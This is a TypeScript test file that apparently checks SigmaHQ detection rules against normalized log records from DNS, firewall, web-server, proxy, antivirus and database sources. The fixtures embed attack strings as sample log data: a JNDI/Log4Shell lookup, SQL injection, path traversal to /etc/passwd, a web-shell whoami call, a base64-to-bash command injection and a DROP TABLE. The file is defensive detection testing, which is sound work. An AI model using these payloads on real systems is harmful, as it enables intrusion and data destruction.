import assert from 'node:assert/strict'
import { globSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { after, describe, it } from 'node:test'
import { fileURLToPath } from 'node:url'
import { readRuleFiles } from '@opensoc/content-files'
import { compileRuleSet, createEngine, parseSigma } from '@opensoc/sigma'
import { datasetsFolder } from '../../../scripts/given-material.ts'
import { allNormalizers } from '../../test/all-normalizers.ts'
import { decodeText } from '../../test/decode-text.ts'
import { createNormalize } from './normalize.ts'

const fixtures = fileURLToPath(new URL('../../../fixtures/normalize', import.meta.url))
const folder = datasetsFolder()
const skip = folder === undefined ? 'the data sets are not here (OPENSOC_DATASETS)' : false
const normalize = createNormalize(allNormalizers())

interface Firing {
  readonly what: string
  readonly record: string
  /** Id of the SigmaHQ rule that must fire. */
  readonly rule: string
}

const access = (request: string, agent = 'Mozilla/5.0', status = 200) =>
  `198.51.100.77 - - [15/Jan/2026:10:20:30 +0000] "${request}" ${status} 12 "-" "${agent}"`
const iis = (method: string, stem: string, query: string) =>
  `#Software: Microsoft Internet Information Services 10.0\n#Fields: date time cs-method cs-uri-stem cs-uri-query c-ip cs(User-Agent) sc-status\n2026-01-15 10:20:30 ${method} ${stem} ${query} 198.51.100.77 Mozilla/5.0 200`
const squid = (url: string, method = 'GET') =>
  `1768472430.123    145 10.1.2.3 TCP_MISS/200 5123 ${method} ${url} - HIER_DIRECT/93.184.216.34 text/html`
const fortigate = (action: string, path: string) =>
  `date=2026-01-15 time=10:20:34 devname="F" devid="FGT60F" logid="0100044547" type="event" subtype="system" level="information" action="${action}" cfgpath="${path}" cfgobj="x" msg="y"`
const virus = (name: string, file: string) =>
  `CEF:0|Trend Micro|Deep Security Agent|20.0.0|4000000|${name}|6|dvchost=srv-7 filePath=${file} act=Delete rt=1768472432000`

const JNDI = '$'.concat('{jndi:ldap://198.51.100.77/a}')

const FIRINGS: readonly Firing[] = [
  {
    what: 'bind',
    record: 'named[1]: client @0x1 10.1.2.3#1 (api.telegram.org): query: api.telegram.org IN A + (10.0.0.53)',
    rule: 'c64c5175-5189-431b-a55e-6d9882158251',
  },
  {
    what: 'dnsmasq',
    record: 'Jan 15 10:20:33 dnsmasq[1]: query[A] aaa.stage.1234.example.net from 10.1.2.4',
    rule: '2975af79-28c4-4d2f-a951-9095f229df29',
  },
  {
    what: 'unbound',
    record: '[1768472434] unbound[77:0] info: 10.1.2.5 x.duckdns.org. A IN',
    rule: 'cf5ee356-65c4-4556-8d11-6977fcdfed4b',
  },
  {
    what: 'windows-dns-debug',
    record:
      '1/15/2026 10:20:36 AM 0E5C PACKET  000001D2B1B0D6C0 UDP Snd 10.1.2.6        0002 R Q [8081   DR  NOERROR] A      (8)asyspy256(4)ddns(3)net(0)',
    rule: '3db10f25-2527-4b79-8d4b-471eb900ee29',
  },
  {
    what: 'cisco-asa',
    record:
      '<166>Jan 15 2026 10:20:30 asa-1 : %ASA-6-302013: Built outbound TCP connection 1 for outside:69.42.98.86/443 (69.42.98.86/443) to inside:10.1.2.3/50123 (198.51.100.4/50123)',
    rule: '881834a4-6659-4773-821e-1c151789d873',
  },
  {
    what: 'filterlog',
    record:
      '<134>Jan 15 10:20:31 opn filterlog[123]: 90,,,0,igb1,match,pass,out,4,0x0,,64,0,0,DF,6,tcp,74,10.1.2.3,203.0.113.9,51000,23,0,S,1,,1,,',
    rule: 'd7fb8f0e-bd5f-45c2-b467-19571c490d7e',
  },
  {
    what: 'fortigate',
    record: fortigate('Add', 'system.admin'),
    rule: 'cd0a4943-0edd-42cf-b50c-06f77a10d4c1',
  },
  {
    what: 'fortigate',
    record: fortigate('Add', 'firewall.policy'),
    rule: 'f24ab7a8-f09a-4319-82c1-915586aa642b',
  },
  {
    what: 'fortigate',
    record: fortigate('Edit', 'user.group'),
    rule: '69ffc84e-8b1a-4024-8351-e018f66b8275',
  },
  {
    what: 'palo-alto',
    record:
      '1,2026/01/15 10:20:36,0018,SYSTEM,globalprotect,2561,2026/01/15 10:20:36,,gpsvc,,0,0,general,critical,"failed to unmarshal session(../../../../opt/panlogs/tmp/device_telemetry/minute/`echo x|base64 -d|bash`) map",1128,0x0',
    rule: 'f130a5f1-73ba-42f0-bf1e-b66a8361cb8f',
  },
  {
    what: 'nginx-error',
    record: '2026/01/15 10:20:31 [alert] 1233#1233: worker process 4321 exited on signal 6 (core dumped)',
    rule: '59ec40bb-322e-40ab-808d-84fa690d7e56',
  },
  {
    what: 'apache-error',
    record: '[Thu Jan 15 10:20:34 2026] [notice] child pid 4321 exit signal Segmentation Fault (11)',
    rule: '1da8ce0b-855d-4004-8860-7d64d42063b1',
  },
  {
    what: 'web-access',
    record: access(`GET /?x=${JNDI} HTTP/1.1`),
    rule: '5ea8faa8-db8b-45be-89b0-151b84c82702',
  },
  {
    what: 'web-access',
    record: access('GET /index.php?id=1%20UNION%20SELECT%20password%20FROM%20users HTTP/1.1'),
    rule: '5513deaf-f49a-46c2-a6c8-3f111b5cb453',
  },
  {
    what: 'web-access',
    record: access('GET /../../../etc/passwd?x=../../../../../lib/password HTTP/1.1'),
    rule: '7745c2ea-24a5-4290-b680-04359cb84b35',
  },
  {
    what: 'iis',
    record: iis('GET', '/cmd.aspx', 'cmd=whoami'),
    rule: '7ff9db12-1b94-4a79-ba68-a2402c5d6729',
  },
  {
    what: 'squid',
    record: squid('http://api.telegram.org/bot1'),
    rule: 'b494b165-6634-483d-8c47-2026a6c52372',
  },
  {
    what: 'cef',
    record: virus('HackTool.Win64.Mimikatz', 'C:\\\\Users\\\\Public\\\\m.exe'),
    rule: '78cc2dd2-7d20-4d32-93ff-057084c38b93',
  },
  {
    what: 'symantec',
    record: '38000F0A1421,5,1,2,SRV-7,anna,Backdoor.Cobalt,C:\\x.exe,5,3,1,256,39866436,"",0',
    rule: '238527ad-3c2c-4e4f-a1f6-92fd63adb864',
  },
  {
    what: 'postgresql',
    record: '2026-01-15 10:20:34.000 UTC [9160] anna@shop LOG:  statement: DROP TABLE customers;',
    rule: 'd84c0ded-edd7-4123-80ed-348bb3ccc4d5',
  },
  {
    what: 'cisco ios',
    record: '<189>Jan 15 10:20:30 rt-1 123: %LDP-3-SOCKET_TCP_PACKET_MD5_AUTHEN_FAIL: peer LDP',
    rule: '50e606bf-04ce-4ca7-9d54-3449494bbd4b',
  },
  {
    what: 'juniper',
    record: '<28>Jan 15 10:20:30 mx-1 rpd[77]: tcp_auth_ok: Packet from 192.0.2.1:179 missing MD5 digest',
    rule: 'a7c0ae48-8df8-42bf-91bd-2ea57e2f9d43',
  },
  {
    what: 'huawei',
    record:
      '<187>Jan 15 10:20:30 ne-1 %%01BGP/3/BGP_AUTH_FAILED(l)[1]: BGP session authentication failed from 192.0.2.1:179',
    rule: 'a557ffe6-ac54-43d2-ae69-158027082350',
  },
]

/**
 * Log sources that text formats feed, and the fields that SigmaHQ's rules ask of them and no record here has: access
 * logs hold no cookies, no types of content.
 */
const SOURCES: readonly {
  readonly logsource: Logsource
  readonly absent: readonly string[]
}[] = [
  { logsource: { category: 'webserver' }, absent: ['cs-content-type'] },
  { logsource: { category: 'proxy' }, absent: ['cs-cookie'] },
  { logsource: { category: 'dns' }, absent: [] },
  { logsource: { category: 'firewall' }, absent: [] },
  { logsource: { category: 'antivirus' }, absent: [] },
  { logsource: { product: 'fortigate', service: 'event' }, absent: [] },
]

const table: Record<string, string | number>[] = []

describe("SigmaHQ's rules on text formats", { skip }, async () => {
  after(() => console.table(table))
  const rules = folder === undefined ? [] : await sigmaHq()
  const engine = createEngine(rules)
  const views = fixtureViews()

  for (const { what, record, rule } of FIRINGS) {
    it(`${what}: ${rules.find((one) => one.rule.id === rule)?.rule.title ?? rule} fires`, () => {
      const { records, context } = decodeText(record)
      const { items, quarantined } = normalize.run(records, context)
      assert.deepEqual(quarantined, [])
      const fired = items.flatMap(({ sigma }) =>
        sigma.flatMap((view) => engine.match(view).map((match) => match.rule.id)),
      )
      assert.ok(fired.includes(rule), `fired: ${fired.join(', ') || 'none'}`)
    })
  }

  for (const { logsource, absent } of SOURCES) {
    const name = Object.values(logsource).join(' ')
    it(`${name}: records have the fields that its rules ask for`, () => {
      const own = rules.filter(({ rule }) => same(rule.logsource, logsource))
      const asked = new Set(own.flatMap(({ rule }) => fieldsOf(rule.detection)))
      const had = new Set(
        views.filter((view) => within(view.logsource, logsource)).flatMap((view) => Object.keys(view.fields)),
      )
      const missing = [...asked].filter((field) => !had.has(field)).sort()
      table.push({ logsource: name, rules: own.length, fields: asked.size, missing: missing.join(' ') })
      assert.ok(own.length > 0)
      assert.deepEqual(missing, [...absent].sort())
    })
  }
})

type Logsource = { readonly product?: string; readonly category?: string; readonly service?: string }

const KEYS = ['product', 'category', 'service'] as const

function same(one: Logsource, other: Logsource): boolean {
  return KEYS.every((key) => one[key] === other[key])
}

function within(one: Logsource, wanted: Logsource): boolean {
  return KEYS.every((key) => wanted[key] === undefined || one[key] === wanted[key])
}

/** The names that a detection's searches look at. */
function fieldsOf(detection: unknown): string[] {
  if (typeof detection !== 'object' || detection === null) return []
  if (Array.isArray(detection)) return detection.flatMap(fieldsOf)
  const { field, ...rest } = detection as Record<string, unknown>
  return [
    ...(typeof field === 'string' && field !== '' ? [field] : []),
    ...Object.values(rest).flatMap(fieldsOf),
  ]
}

/** What rules see of all records in the fixtures of text formats. */
function fixtureViews() {
  const files = globSync('{cef,leef,firewalls,w3c,web,dns,host-logs}/*.in.log', { cwd: fixtures })
  return files.flatMap((file) => {
    const { records, context } = decodeText(readFileSync(join(fixtures, file), 'utf8'))
    return normalize.run(records, context).items.flatMap(({ sigma }) => sigma)
  })
}

async function sigmaHq() {
  const files = await readRuleFiles(
    ['rules', 'rules-emerging-threats', 'rules-threat-hunting'].map((name) =>
      join(folder!, 'sigma/SigmaHQ', name),
    ),
  )
  return compileRuleSet(files.flatMap(({ file, source }) => parseSigma(source, { file }))).rules
}
